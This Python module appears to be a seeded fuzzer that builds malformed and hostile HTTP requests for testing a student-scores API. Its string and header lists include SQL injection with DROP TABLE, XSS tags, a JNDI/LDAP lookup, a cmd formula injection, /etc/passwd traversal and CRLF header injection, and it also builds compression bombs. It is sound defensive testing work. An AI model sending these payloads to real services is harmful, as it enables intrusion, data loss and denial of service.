"""Requests that mean harm or are badly broken, made by lot from a seed, over every kind that has broken a service somewhere."""

from __future__ import annotations

import bz2
import copy
import gzip
import json
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

JSON = {"Content-Type": "application/json"}
STRINGS = (
    "' OR 1=1 --", "'; DROP TABLE tokens; --", '" UNION SELECT digest FROM tokens --', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "{{7*7}}", "${jndi:ldap://x/y}", "%s%s%n", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "../../etc/passwd", "..\\..\\x", "\x00", "a\x00b",
    "\ud800", "x\udfffy", "\ufeff", "\u202enoitcejni", "\u0430dmin", "\uff451", "e\u0301", "\u200b", "🎓" * 40, "x" * 201, "x" * 100_000, "", " ", "\r\nSet-Cookie: a=b", "NaN", "null",
    "__proto__", "constructor", "$ref", "1e309", "\uff10\uff11", "2026-02-30", "0000-00-00", "9999-12-31T23:59:60Z",
)  # fmt: skip
NUMBERS = (
    "1e999", "-1e999", "NaN", "Infinity", "-Infinity", "1" * 400, "-" + "9" * 5000, "1e-400", "0.1e1000000000", "1.7976931348623157e308", "-0", "1E400", "00", "0x10",
    "9007199254740993", "1_000", "+1", ".5", "1.",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One request: what kind it is, and what is sent."""

    kind: str
    content: bytes
    headers: dict[str, str] = field(default_factory=lambda: dict(JSON))
    path: str = "/v1/scores"


def _paths(value: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [here] if here else []
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in children:
        found += _paths(child, (*here, key))
    return found


def _with(body: Any, path: tuple[Any, ...], value: Any) -> Any:
    changed = copy.deepcopy(body)
    at = changed
    for key in path[:-1]:
        at = at[key]
    at[path[-1]] = value
    return changed


def _replaced(body: Any, lot: random.Random, text: str) -> bytes:
    """Put a text where a value was, whether or not it is JSON."""
    marked = json.dumps(_with(body, lot.choice(_paths(body)), "@@here@@"))
    return marked.replace('"@@here@@"', text).encode("utf-8", "surrogatepass")


def _depth(body: Any, lot: random.Random) -> Hostile:
    many = lot.choice([50, 500, 5_000, 100_000])
    opened, closed = lot.choice([("[", "]"), ('{"a":', "}"), ('{"students":[', "]}")])
    return Hostile("depth", (opened * many + "1" + closed * lot.choice([0, many])).encode())


def _size(body: Any, lot: random.Random) -> Hostile:
    what = lot.choice(["keys", "students", "text", "rows"])
    if what == "keys":
        return Hostile("size", json.dumps({**body, **{f"k{number}": number for number in range(20_000)}}).encode())
    if what == "students":
        return Hostile("size", json.dumps({**body, "students": [{}] * 20_000}).encode())
    if what == "rows":
        return Hostile("size", json.dumps(_with(body, ("students", 0, "attendance"), [{"date": "2026-10-26"}] * 6_000)).encode())
    return Hostile("size", _replaced(body, lot, json.dumps("x" * 1_000_000)))


def _number(body: Any, lot: random.Random) -> Hostile:
    return Hostile("number", _replaced(body, lot, lot.choice(NUMBERS)))


def _duplicate(body: Any, lot: random.Random) -> Hostile:
    text = json.dumps(body)
    return Hostile("duplicate keys", ("{" + '"students": [], "on": null, ' * lot.randint(1, 50) + text[1:]).encode())


def _encoding(body: Any, lot: random.Random) -> Hostile:
    text = json.dumps(_with(body, ("students", 0, "enrolment", "programme"), "Verpleegkunde é"), ensure_ascii=False)
    kind = lot.choice(["utf-16", "utf-32", "latin-1", "cp1252", "broken", "bom", "zeros"])
    if kind in ("broken", "bom", "zeros"):
        told = text.encode()
        place = lot.randrange(len(told))
        content = {"broken": told[:place] + b"\xff\xfe\xc3" + told[place:], "bom": b"\xef\xbb\xbf" + told, "zeros": b"\x00" * 64 + told}[
            kind
        ]
    else:
        content = text.encode(kind)
    charset = lot.choice(["", "; charset=utf-8", "; charset=utf-7", "; charset=nonsense", "; charset=utf-16"])
    return Hostile("encoding", content, {"Content-Type": "application/json" + charset})


def _string(body: Any, lot: random.Random) -> Hostile:
    paths = _paths(body)
    changed = _with(body, lot.choice(paths), lot.choice(STRINGS))
    return Hostile("string", json.dumps(changed).encode())


def _key(body: Any, lot: random.Random) -> Hostile:
    inside = [path for path in _paths(body) if isinstance(_at(body, path), dict)]
    path = lot.choice(inside)
    return Hostile(
        "key", json.dumps(_with(body, path, {**_at(body, path), lot.choice(STRINGS): lot.choice([1, "x", None, [], {}])})).encode()
    )


def _at(body: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        body = body[key]
    return body


def _type(body: Any, lot: random.Random) -> Hostile:
    value = lot.choice([None, True, [], {}, [[]], 0, -1, 1.5, "x", [None], {"a": {"b": []}}])
    return Hostile("type", json.dumps(_with(body, lot.choice(_paths(body)), value)).encode())


def _bomb(body: Any, lot: random.Random) -> Hostile:
    plain = b"[" + b"0," * 5_000_000 + b"0]"
    packed = {"gzip": gzip.compress, "deflate": zlib.compress, "br": zlib.compress, "bzip2": bz2.compress}
    kind = lot.choice(sorted(packed))
    if kind not in _BOMBS:
        _BOMBS[kind] = packed[kind](plain)
    return Hostile("bomb", _BOMBS[kind], {**JSON, "Content-Encoding": kind})


_BOMBS: dict[str, bytes] = {}


def _header(body: Any, lot: random.Random) -> Hostile:
    told = lot.choice(
        [
            {"Content-Type": "text/xml"}, {"Content-Type": "multipart/form-data; boundary=x"}, {"Content-Type": ""}, {**JSON, "Accept-Language": "x;q=" + "9" * 4000},
            {**JSON, "X-Request-ID": "<script>" * 20}, {**JSON, "Accept": "text/html"}, {**JSON, "X-Forwarded-For": "' OR 1=1"},
            {**JSON, "Cookie": "session=" + "A" * 4000}, {**JSON, "Cookie": "language=../../x; session=\"; login=e30.x.y"}, {**JSON, "Expect": "x"},
            {**JSON, "Idempotency-Key": "x" * 3000}, {**JSON, "If-None-Match": '"' * 99}, {**JSON, "Range": "bytes=0-1,5-" + "9" * 99},
        ]
    )  # fmt: skip
    return Hostile("header", json.dumps(body).encode(), told)


def _torn(body: Any, lot: random.Random) -> Hostile:
    text = json.dumps(body).encode()
    cut = lot.randrange(len(text))
    return Hostile(
        "torn", text[:cut] + bytes(lot.randrange(256) for _ in range(lot.randint(0, 8))) + (text[cut:] if lot.random() < 0.5 else b"")
    )


MAKERS: tuple[Callable[[Any, random.Random], Hostile], ...] = (
    _depth, _size, _number, _duplicate, _encoding, _string, _string, _key, _type, _bomb, _header, _torn,
)  # fmt: skip


def hostile(body: Any, many: int, seed: int) -> list[Hostile]:
    """Give so many requests, each kind in turn, made from a body that is as it should be."""
    lot = random.Random(seed)
    return [MAKERS[number % len(MAKERS)](body, lot) for number in range(many)]
